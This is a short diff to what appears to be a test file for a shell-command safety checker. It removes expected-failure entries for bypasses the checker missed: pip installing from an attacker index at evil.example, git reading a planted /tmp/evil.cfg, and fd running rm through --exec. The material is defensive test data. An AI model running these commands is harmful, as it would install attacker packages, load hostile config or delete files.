@@ -647,11 +647,6 @@ RIGHTLY_STOPPED: list[tuple[str, str, str]] = [
 ]
 
 XFAIL: dict[str, str] = {
-    "sudo PIP_INDEX_URL=http://evil.example/simple pip install requests": "sudo's VAR=value operands are not the payload's environment",
-    "GIT_CONFIG_GLOBAL=/tmp/evil.cfg git log": "GIT_CONFIG_GLOBAL/SYSTEM are not read as configuration files",
-    "GIT_CONFIG_SYSTEM=/tmp/evil.cfg git log": "GIT_CONFIG_GLOBAL/SYSTEM are not read as configuration files",
-    "fd -e py --exec-batch=rm": "fd's glued --exec=/--exec-batch= are not seen",
-    "fd -e py --exec=rm": "fd's glued --exec=/--exec-batch= are not seen",
     "mv ~/Downloads/data.csv .": "mv's source outside the project is read as a deletion (fs.delete-outside-project), though it moves into the project",
 }
 
